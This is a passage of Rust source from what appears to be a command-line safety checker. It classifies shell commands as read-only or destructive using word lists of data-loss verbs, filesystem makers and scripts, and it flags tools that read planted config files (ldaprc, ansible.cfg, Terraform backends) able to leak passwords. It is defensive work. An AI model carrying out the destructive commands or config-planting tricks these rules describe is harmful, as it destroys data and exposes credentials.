            "`{name} -chdir={dir}` reads the configuration in {dir}, a folder anyone may have \
             written, its backend among it"
        ));
    }
    // OpenLDAP's clients read `./ldaprc` (ldap.conf(5)) unless
    // `LDAPNOINIT` is set: a planted one names the server a bind's
    // password goes to (review 68).
    if LDAP_CLIENTS.contains(&name)
        && shared_cwd()
        && !w.prefix_env.iter().any(|(n, _)| n == "LDAPNOINIT")
    {
        return Verdict::destructive(format!(
            "`{name}` reads `ldaprc` from the working folder, where anyone may have put one \
             naming the server it connects and sends its bind's password to"
        ));
    }
    if name.starts_with("python") || INTERPRETERS.contains(&name) {
        return wrappers::interpreter(name, args, stdin);
    }
    // (And FreeBSD's `newfs`, `newfs_msdos`; review 128.)
    if name.starts_with("mkfs")
        || matches!(
            name,
            "mke2fs" | "mkswap" | "mkdosfs" | "mkntfs" | "newfs" | "newfs_msdos"
        )
    {
        if filesystem_dry_run(name, args) {
            return Verdict::read_only(format!(
                "`{name}` only shows what it would make (a dry run)"
            ));
        }
        return Verdict::destructive(format!("`{name}` creates a filesystem, erasing the device"));
    }
    if let Some(v) = programs::specific(w, name, args, depth) {
        return v;
    }
    if is_reader(name) {
        return Verdict::read_only(format!("`{name}` only inspects"));
    }
    if SCRIPT_SUFFIXES.iter().any(|suffix| name.ends_with(suffix)) {
        return Verdict::destructive(format!(
            "`{name}` is a script whose contents are unknown and can run any command"
        ));
    }
    // An unknown program told to delete, drop or purge something (`gitea
    // admin user delete`, `occ user:delete`, `tool --purge`): what it loses
    // cannot be read, and a verb that names loss is taken at its word
    // (blind corpus 40).
    // (Told to only show it: `--dry-run`, `--simulate`; blind corpus 44.)
    // (Only as an option: not after `--`; review 59.)
    let dry_run = args
        .iter()
        .filter_map(Arg::literal)
        .take_while(|w| *w != "--")
        .any(|w| says_dry_run(name, w));
    // (A client known by its table, whose table proves the line: its
    // words are what the table read, `magick -list format`. Proven only
    // when a word names loss: most lines have none.)
    let proven_by_table =
        || TABLED_CLIENTS.contains(&name) && crate::tables::proves_read_only(name, args);
    // (A word named loss only whole counts where no option's value or
    // pattern can be: not after an option, `incus list -f compact`, `ugrep
    // -r trim`; review 89.)
    let words: Vec<&str> = args.iter().filter_map(Arg::literal).collect();
    // (Or the program's own name: `ipa-restore`, `gitlab-backup-delete`;
    // blind corpus 153.)
    if let Some(verb) = words
        .iter()
        .enumerate()
        .find(|(i, w)| {
            names_loss(w)
                && !(WHOLE_LOSS.contains(w)
                    && i.checked_sub(1).is_some_and(|p| words[p].starts_with('-')))
        })
        .map(|(_, w)| *w)
        .or_else(|| program_names_loss(name).then_some(name))
        .filter(|_| !dry_run && !proven_by_table())
    {
        return Verdict::destructive(format!(
            "`{name}` is not a known program, told to `{verb}`: it may lose data"
        ))
        .printing(crate::Output::Unproven);
    }
    if TABLED_CLIENTS.contains(&name) {
        return Verdict::read_only(format!("`{name}` only inspects"));
    }
    Verdict::mutation(format!("`{name}` is not a known inspection command"))
        .printing(crate::Output::Unproven)
}

/// The programs [`run_time_option`] reads, with their flags that take no
/// value, after which a word is read as an option again; `None` for any
/// other program.
fn option_flags(name: &str) -> Option<&'static [&'static str]> {
    Some(match name {
        "iptables" | "ip6tables" | "iptables-legacy" | "ip6tables-legacy" | "iptables-nft"
        | "ip6tables-nft" | "ebtables" | "arptables" | "ipset" => &[
            "-n",
            "-v",
            "-x",
            "-w",
            "-4",
            "-6",
            "-L",
            "-S",
            "-Z",
            "--line-numbers",
            "--numeric",
        ],
        "ssh" => &[
            "-4", "-6", "-A", "-a", "-C", "-f", "-G", "-g", "-K", "-k", "-M", "-N", "-n", "-q",
            "-s", "-T", "-t", "-V", "-v", "-X", "-x", "-Y", "-y",
        ],
        // (scp's and sftp's own flags: `-p` preserves, `-B` batches.)
        "scp" | "sftp" => &[
            "-3", "-4", "-6", "-A", "-a", "-B", "-C", "-N", "-O", "-p", "-q", "-R", "-r", "-T",
            "-v",
        ],
        "sed" | "crontab" => &[],
        // (find's expression: after a start, or a primary that takes no
        // value, a word is an expression word, `-delete` among them.)
        "find" => &[
            "-print",
            "-print0",
            "-ls",
            "-o",
            "-a",
            "!",
            "-not",
            "-or",
            "-and",
            "(",
            ")",
            "-xdev",
            "-mount",
            "-depth",
            "-prune",
            "-quit",
            "-true",
            "-false",
            "-empty",
            "-readable",
            "-writable",
            "-executable",
            "-nouser",
            "-nogroup",
            "-follow",
            "-daystart",
            "-H",
            "-L",
            "-P",
        ],
        // (Every operand is a register, `REG=VALUE` a write.)
        "setpci" => &["-v", "-f", "-D", "-G"],
        _ => return None,
    })
}

/// A run-time word where a program an option alone makes lose something
/// reads an option: its first word, or one
/// joined to a written option (`"$(command -v zzz)""-F"`, empty at run
/// time; review 119). Judged before the program's own rules, which may
/// take the line for a mere change (`iptables` "changes firewall rules").
fn run_time_option<'a>(name: &str, args: &'a [Arg]) -> Option<&'a str> {
    let flags = option_flags(name)?;
    let remote = matches!(name, "ssh" | "scp" | "sftp");
    let mut previous: Option<&str> = None;
    for (i, a) in args.iter().enumerate() {
        if a.literal() == Some("--") {
            return None;
        }
        let raw = a.raw();
        let bare = raw.trim_start_matches(['"', '\'']);
        // A substitution that prints a number is no option (`sed
        // "$(wc -l < f)q"`).
        let number = crate::sources::number_word(raw).is_some();
        let dynamic = a.literal().is_none() && raw.contains(['$', '`']) && !number;
        let starts = bare.starts_with(['$', '`']) || (bare.starts_with('-') && dynamic);
        let joined = ["\"-", "'-", ")-", "}-"].iter().any(|j| raw.contains(j));
        // Where an option stands: first, after an operand or a flag (for
        // sed and crontab, first only: their values and scripts follow).
        // (A cluster of flags is flags too: `-qT`, `-vw`; review 121.)
        let flag = |p: &str| {
            flags.contains(&p)
                || (p.len() > 2
                    && !p.starts_with("--")
                    && p[1..]
                        .chars()
                        .all(|c| flags.contains(&format!("-{c}").as_str())))
        };
        let option_place = i == 0
            || (!flags.is_empty() && previous.is_none_or(|p| !p.starts_with('-') || flag(p)));
        // (Unquoted, it may split into a value and an option after it:
        // `iptables -t $(echo filter -F)`; review 121.)
        if dynamic && (joined || (starts && (option_place || a.splits()))) {
            return Some(raw);
        }
        // (ssh's words after the destination are the remote command.)
        if remote
            && a.literal().is_some_and(|w| !w.starts_with('-'))
            && previous.is_none_or(|p| !p.starts_with('-') || flag(p))
        {
            return None;
        }
        previous = a.literal();
        if a.literal().is_none() {
            previous = Some("");
        }
    }
    None
}

/// Whether a program's own name says it loses data (`ipa-restore`,
/// `backup-delete`): a part of it a verb of loss, not of stopping
/// (`grub-reboot` only picks the next boot's entry).
fn program_names_loss(name: &str) -> bool {
    const DATA_LOSS: &[&str] = &[
        "restore", "delete", "purge", "wipe", "destroy", "erase", "remove", "prune", "truncate",
        "drop", "cleanup", "nuke", "zap", "shred", "rm", "empty", "flush", "rmkeytab",
    ];
    name.split(['-', '_', '.'])
        .any(|part| DATA_LOSS.contains(&part.to_ascii_lowercase().as_str()))
}

/// Whether `word` tells `program` only to show what it would do:
/// `--dry-run`, `--simulate` and their spellings, or borg's, rclone's
/// and restic's `-n` (review 92).
pub(crate) fn says_dry_run(program: &str, word: &str) -> bool {
    matches!(word, "--dry-run" | "--simulate" | "--dryrun" | "-dry-run")
        || (word == "-n" && matches!(program, "borg" | "rclone" | "restic"))
}

/// Services' clients known by their tables alone: a line their table
/// proves is a read; any other is judged as an unknown program's, so a
/// verb that names loss (`flux uninstall`, `nats stream purge`, `ollama
/// rm`) stays destructive.
#[rustfmt::skip]
const TABLED_CLIENTS: &[&str] = &[
    // (Stop 80: blind corpora 228–233.)
    "salt-key", "crushtool", "ceph-conf", "sdiff", "diff3", "lsdiff", "grepdiff", "filterdiff",
    "interdiff", "combinediff", "diffstat", "ucfq", "trust", "gpgv", "patch", "pmt", "pmtx",
    // (Stop 78: tables/containers.rs, network.rs, system.rs; blind
    // corpora 216, 217, 220.)
    "incus", "lxc", "iw", "hping3", "hping", "kdump-config", "systool", "camcontrol", "glabel",
    "sesutil", "nvmecontrol", "jls", "swapinfo", "pciconf", "ctladm", "buildah", "umoci",
    "masscan", "wpa_cli",
    // (Stop 77: tables/fileservers.rs; blind corpus 207.)
    "midclt", "omv-confdbadm", "omv-rpc",
    // (Stop 77: tables/admin.rs; blind corpus 213.)
    "at", "anacron",
    // (Stop 75: tables/system.rs, identity.rs, tools.rs; blind corpora
    // 184-186.)
    "setpci", "hugeadm", "lstopo", "lstopo-no-graphics", "hwloc-ls", "cloud-id", "ipa", "ipactl",
    "ipa-getcert", "ipa-replica-manage", "sssctl", "wbinfo", "nmblookup", "ifconfig",
    // (Stop 74: tables/diagnostics.rs, tools.rs; blind corpora 160, 161,
    // 166, 167, 171.)
    "lzop", "sanoid", "syncoid", "aa-enabled", "apt-file", "mongod", "mongos", "redis-server",
    "valkey-server", "mysqld", "mariadbd", "postgres", "etcd", "nsenter", "brctl",
    // (Stop 72: tables/php_apps.rs, found under `php` by
    // programs/php_apps.rs; blind corpora 122, 145.)
    "occ", "artisan",
    // (Stop 73: tables/diagnostics.rs, network.rs, tools.rs; blind corpora
    // 155, 158, 159.)
    "pmap", "a2query", "dockerd", "transmission-remote",
    // (Stop 73: tables/monitoring.rs; blind corpus 161.)
    "snmpwalk", "snmpbulkwalk", "snmpget", "snmpgetnext", "snmpbulkget", "snmptable", "snmpdf",
    "snmpstatus", "snmptranslate", "zabbix_get", "check_disk",
    "check_load", "check_swap", "check_users", "check_procs", "check_ping", "check_ssh",
    "check_tcp", "check_http",
    // (Stop 72: tables/mongo.rs; blind corpus 144. tables/services.rs;
    // blind corpus 152.)
    "mongostat", "mongotop", "syslog-ng-ctl", "vector", "samba-tool",
    // (Stop 69: tables/containers.rs. Not go's and rustup's reports: in a
    // module or project folder that asks for another toolchain, go and
    // rustup (1.27) download and run it first; review 100.)
    "lxc-top", "lxc-monitor", "lxc-config", "lxc-wait", "getsubids",
    "apparmor_parser", "capsh",
    // (Stop 71: tables/system.rs, tables/admin.rs; blind corpora 140,
    // 143.)
    "update-alternatives", "lvmdiskscan", "lvm", "pvck", "xfs_admin", "e4defrag",
    "vacuumlo", "iptables-legacy-restore", "ip6tables-legacy-restore", "iptables-nft-restore",
    "ip6tables-nft-restore",
    // (Stop 70: tables/fileservers.rs; blind corpus 134.)
    "repquota", "quota", "quotaon", "getfattr", "chacl", "nfs4_getfacl", "nfsconf",
    "mountstats", "nfsiostat", "nfsdclnts", "rpcdebug",
    // (Stop 70: PVE::Daemon's `status`; blind corpus 135.)
    "pveproxy", "pvedaemon", "pvestatd", "spiceproxy", "pvescheduler", "pve-ha-lrm", "pve-ha-crm",
    // (Stop 68: tables/ops.rs.)
    "tuned-adm", "sadf", "perf", "gitea", "forgejo", "wp", "sendmail", "spamassassin",
    "spamc", "opendkim", "sa-learn", "dnssec-settime", "dnssec-dsfromkey", "dnssec-verify",
    "named-compilezone", "systemd-tmpfiles",
    "flux", "argocd", "cmctl", "nats", "ollama", "swanctl", "headscale", "openvpn", "net",
    "logcli", "netdatacli", "gitlab-ctl", "gitlab-rake", "skopeo", "ccache", "rsyslogd", "loki",
    "promtail", "zabbix_agentd", "zabbix_agent2", "pdnsutil", "pdns_control", "virsh",
    // Blind corpora 94 and 95.
    "postmap", "postalias", "postcat", "postmulti", "postfix", "rspamc", "rspamadm", "pflogsumm",
    "pihole-FTL", "kea-dhcp4", "kea-dhcp6", "kea-dhcp-ddns", "kea-ctrl-agent", "dhcpd", "dnsmasq",
    "ntpq", "avahi-browse", "avahi-resolve", "avahi-resolve-host-name", "avahi-resolve-address",
    "avahi-daemon",
    // Blind corpus 96.
    "identify", "convert", "magick", "mediainfo", "metaflac", "flac", "soxi", "sox", "ffmpeg",
    "mkvinfo", "mkvmerge", "id3v2", "tmux", "screen", "rcon-cli",
    // Blind corpus 99.
    "radosgw-admin", "garage", "syncthing",
    // Blind corpus 100.
    "rfkill", "bluetoothctl", "btmgmt", "hciconfig", "usbip", "usb-devices", "nmcli",
    // Blind corpus 102.
    "etcdutl", "pg_controldata", "pg_ctl", "pg_checksums", "pg_verifybackup", "pg_resetwal",
    "pg_resetxlog", "pg_waldump",
    // Blind corpora 110, 112 and 114.
    "tshark", "capinfos", "dhcp-lease-list", "smartd", "lxc-cgroup", "atop",
    "arping", "uci", "opkg", "iwinfo", "fw4", "ifreload", "ifup", "ifdown",
    // Blind corpus 109.
    "crane", "regctl", "ctr",
    // Blind corpus 111.
    "btrfs", "fstrim", "multipathd", "xfs_growfs", "e2label",
    // Blind corpus 113.
    "dpkg-divert", "dpkg-statoverride", "debconf-show", "deborphan",
    "grub-script-check", "snap", "flatpak",
    // Blind corpus 101.
    "chkrootkit", "clamscan", "clamdscan", "sigtool", "aulast", "augenrules",
    "aa-unconfined", "authselect",
];

/// Loss words only whole (see [`names_loss`]).
const WHOLE_LOSS: &[&str] = &[
    // (A queue emptied: `rq empty --all`; blind corpus 132.)
    "empty",
    "rb",
    "garbage-collect",
    "abortmp",
    "trim",
    "compact",
    "--repair",
];

/// Whether a word of an unknown program's line names loss: a verb or
/// option such as `delete`, `user:delete`, `--purge`, `drop-db`.
fn names_loss(word: &str) -> bool {
    const LOSS: &[&str] = &[
        "delete",
        "destroy",
        "purge",
        "prune",
        "drop",
        "wipe",
        "erase",
        "rm",
        "rmi",
        "truncate",
        "remove",
        "uninstall",
        "kill",
        "reset",
        // Taking something down (`rc-service redis stop`, `tool
        // shutdown`; blind corpora 45 and 46), and `del`.
        "stop",
        "shutdown",
        "poweroff",
        "halt",
        "reboot",
        "del",
        // Mail expunged (`doveadm expunge`), a zone deleted; blind
        // corpus 53.
        "expunge",
        "delzone",
        // Caches and build outputs cleaned (`npm cache clean`, `go
        // clean -modcache`, `cargo clean`), migrations taken back
        // (`sqlx migrate revert`, `goose … down`); blind corpus 60.
        "clean",
        "revert",
        "rollback",
        "down",
        "downgrade",
        // Emptied, torn down under other names (`npm cache clear`,
        // `composer clear-cache`, `tool teardown`); review 58. Not
        // `flush`: most tools flush buffers, logs or caches they refill
        // (`mysqladmin flush-logs`, `unbound-control flush_zone`).
        "clear",
        // Unreferenced data collected (`umoci gc`, `registry
        // garbage-collect`); blind corpus 220.
        "gc",
        "garbage-collect",
        "nuke",
        // A cluster's member forgotten, a replica rebuilt from scratch,
        // clients' connections closed, a backup restored over the data,
        // grants revoked (blind corpus 61).
        "forget",
        "reinit",
        "close",
        "restore",
        "revoke",
        // (Review 59.)
        "terminate",
        // A package withdrawn from its registry, a whole installation's
        // data removed (`npm unpublish`, `gitlab-ctl cleanse`; blind
        // corpus 83).
        "unpublish",
        "cleanse",
        // (A configuration's history thrown away, `etckeeper uninit`;
        // blind corpus 148.)
        "uninit",
        "zap",
        "cleanup",
        "flushall",
        "decommission",
        "evict",
        "overwrite",
        "discard",
        "shred",
        "reformat",
        "mkfs",
        // (A gem version withdrawn from its server, `gem yank`; blind
        // corpus 132.)
        "yank",
        // (A CI runner taken out of its forge; blind corpus 65.)
        "unregister",
        "deregister",
        "teardown",
        // (A queued message or job cancelled: `stalwart-cli queue
        // cancel ID`; blind corpus 95.)
        "cancel",
        // (An upload's parts thrown away, `s3api abort-multipart-upload`;
        // blind corpus 99. The words below only whole.)
        "abort",
    ];
    // (`format` only as a verb: `--format json` chooses an output. `rb`
    // only as a word of its own, a bucket removed, `mc rb`, `s3cmd rb`,
    // `aws s3 rb` (blind corpus 98): not a Ruby file's `.rb`.)
    // (And, only as words of their own, not inside an option or a
    // pattern (`--compact-output`, `ack trim`; review 89): an upload
    // aborted, `s3cmd abortmp`; logs trimmed, `radosgw-admin usage
    // trim`; unreferenced data freed for good, `borg compact`,
    // `garbage-collect`; a repair that may drop what it cannot mend,
    // `borg check --repair` (blind corpora 99 and 107).)
    if word == "format" || WHOLE_LOSS.contains(&word) {
        return true;
    }
    // (Each word of a statement too: `pihole-FTL sqlite3 DB "DELETE
    // FROM …"`.)
    // (And Windows' switches: `net user x /delete`; blind corpus 88.)
    word.trim_start_matches(['-', '/'])
        .split([':', '-', '_', '.', '=', ' ', '\t', '\n', ';', '(', ','])
        .any(|part| {
            let part = part.to_ascii_lowercase();
            LOSS.contains(&part.as_str()) || joined_loss(&part)
        })
}

/// A loss verb joined to its object without a separator, as many tools
/// spell their subcommands (`deluser`, `groupremove`, `dropuser`,
/// `rmvolume`): a verb before or after a noun of the things tools keep
/// (not `dropbear`, `delta`, `deleted`, `model`).
pub(crate) fn joined_loss(part: &str) -> bool {
    const VERBS: &[&str] = &[
        "del", "delete", "remove", "rm", "drop", "destroy", "purge", "wipe", "erase", "forget",
        // (Review 60: `zapdisk`, `nukeall`, `stopall`, `flushdb`.)
        "zap", "nuke", "stop", "flush", "clear",
    ];
    const NOUNS: &[&str] = &[
        "disks",
        "data",
        "user",
        "users",
        "group",
        "groups",
        "zone",
        "key",
        "keys",
        "node",
        "host",
        "member",
        "peer",
        "vol",
        "volume",
        "snap",
        "snapshot",
        "pool",
        "db",
        "database",
        "acl",
        "role",
        "tag",
        "entry",
        "record",
        "rule",
        "item",
        "file",
        "dir",
        "bucket",
        "queue",
        "topic",
        "stream",
        "index",
        "alias",
        "route",
        "share",
        "job",
        "task",
        "policy",
        "token",
        "cert",
        "backup",
        "vhost",
        "repo",
        "image",
        "container",
        "cluster",
        "table",
        "schema",
        "account",
        "realm",
        "pkg",
        "package",
        "plugin",
        "addon",
        "site",
        "vm",
        "ct",
        "guest",
        "disk",
        "all",
        // (`mosquitto_ctrl dynsec deleteClient`; blind corpus 100.)
        "client",
    ];
    VERBS.iter().any(|v| {
        part.strip_prefix(v)
            .or_else(|| part.strip_suffix(v))
            .is_some_and(|noun| NOUNS.contains(&noun))
    })
}

/// The first word from a subcommand not known to only inspect on that
/// names loss (`grafana-cli plugins remove X`; blind corpus 46), but
/// `reset`, which a known program's verbs use for what loses nothing
/// (`systemctl reset-failed`).
pub(crate) fn verb_names_loss<'a>(words: impl Iterator<Item = &'a str>) -> Option<&'a str> {
    words.take_while(|w| *w != "--").find(|w| {
        names_loss(w)
            && !w
                .trim_start_matches('-')
                .split([':', '-', '_', '.', '='])
                // (Nor `restore`: a known program's restores go where
                // they are told, `restic restore --target /tmp/r`.)
                .any(|part| {
                    part.eq_ignore_ascii_case("reset") || part.eq_ignore_ascii_case("restore")
                })
    })
}

/// The configuration file `name args` reads from the working folder when
/// it finds none where it looks first: Ceph's clients end their search
/// with `./ceph.conf` (`$cluster.conf`), and `caddy validate`/`adapt`
/// without `--config` read `./Caddyfile`.
fn config_from_working_folder(name: &str, args: &[Arg]) -> Option<&'static str> {
    match name {
        "ceph" | "rbd" | "rados" => Some("ceph.conf"),
        // (Ansible reads `./ansible.cfg` first: its inventory, plugins and
        // vault password script; review 65.)
        "ansible" | "ansible-inventory" | "ansible-playbook" | "ansible-config" | "ansible-doc" => {
            Some("ansible.cfg")
        }
        // (Packer runs any `packer-plugin-*` it finds there; Terraform
        // and OpenTofu read the configuration there, its backend among
        // them; review 67.)
        "packer" => Some("a `packer-plugin-*` program"),
        "terraform" | "tofu" => Some("a configuration (`*.tf`) naming its own backend"),
        // (yamllint looks for `.yamllint` there and in every folder above
        // it: an `extends:` naming any file, which it quotes when it fails
        // to parse; review 68.)
        // (Its own `-d`: not a file named so after `--`; review 69.)
        "yamllint"
            if !args
                .iter()
                .filter_map(Arg::literal)
                .take_while(|w| *w != "--")
                .any(|w| w.starts_with("-d") || w.starts_with("--config-data")) =>
        {
            Some(".yamllint")
        }
        "caddy"
            if matches!(
                args.first().and_then(Arg::literal),
                Some("validate" | "adapt")
            ) && !args
                .iter()
                .filter_map(Arg::literal)
                .any(|w| w.starts_with("--config") || w.starts_with("-config")) =>
        {
            Some("Caddyfile")
        }
        _ => None,
    }
}

/// libldap's command-line clients (OpenLDAP 2.5).
const LDAP_CLIENTS: &[&str] = &[
    "ldapsearch",
    "ldapwhoami",
    "ldapcompare",
    "ldapmodify",
    "ldapadd",
    "ldapdelete",
    "ldapmodrdn",
    "ldappasswd",
    "ldapexop",
    "ldapvc",
];

/// Whether Terraform's `-chdir` leads to a folder of root's own: under
/// /root or /etc, or relative to a working folder under /root.
fn chdir_roots_own(dir: &str, folders: &crate::secret_paths::Folders) -> bool {
    let under_root = |f: &str| f == "/root" || f.starts_with("/root/");
    !dir.split('/').any(|part| part == "..")
        && if dir.starts_with('/') {
            under_root(dir) || dir.starts_with("/etc/")
        } else {
            !folders.unknown() && folders.known().iter().all(|f| under_root(f))
        }
}

/// Names of programs that are scripts (`./install.sh`, `backup.py`).
const SCRIPT_SUFFIXES: &[&str] = &[".sh", ".bash", ".py", ".pl", ".rb", ".php", ".js"];

/// A filesystem maker's dry run, every other option one that only shapes
/// what it would make: mke2fs(8)'s `-n` ("do not actually create a file
/// system, but display what it would do"), mkfs.xfs(8)'s `-N` ("print
/// out the file system parameters without really creating"); blind
/// corpora 39 and 42. (Not `-c`, a bad-block scan, nor `-E`/`-d`/`-D`.)
fn filesystem_dry_run(name: &str, args: &[Arg]) -> bool {
    let dry = match name {
        "mke2fs" | "mkfs.ext2" | "mkfs.ext3" | "mkfs.ext4" => 'n',
        "mkfs.xfs" => 'N',
        _ => return false,
    };
    // (The options its dry-run table lists, one list for both.)
    let Some((spec, _)) = crate::tables::spec(name, args) else {
        return false;
    };
    let (flags, valued) = (spec.flags, spec.valued);
    let mut dry_given = false;
    let mut devices = 0;
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        i += 1;
        let Some(word) = arg.literal() else {
            return false;
        };
        let Some(cluster) = word
            .strip_prefix('-')
            .filter(|c| !c.is_empty() && !c.starts_with('-'))
        else {
            // An operand: one disk, no size (mke2fs opens anything else
            // with `O_CREAT`, dry run or not: review 50; a name under
            // /dev that is no device's becomes a file there: reviews 51
            // and 52).
            if arg.is_glob() || !crate::secret_paths::disk_device_name(word) || devices > 0 {
                return false;
            }
            devices += 1;
            continue;
        };
        for (at, c) in cluster.char_indices() {
            if c == dry {
                dry_given = true;
            } else if valued.contains(c) {
                // Its value: the rest of the cluster, or the next word.
                if at + c.len_utf8() == cluster.len() {
                    i += 1;
                }
                break;
            } else if !flags.contains(c) {
                return false;
            }
        }
    }
    dry_given
}
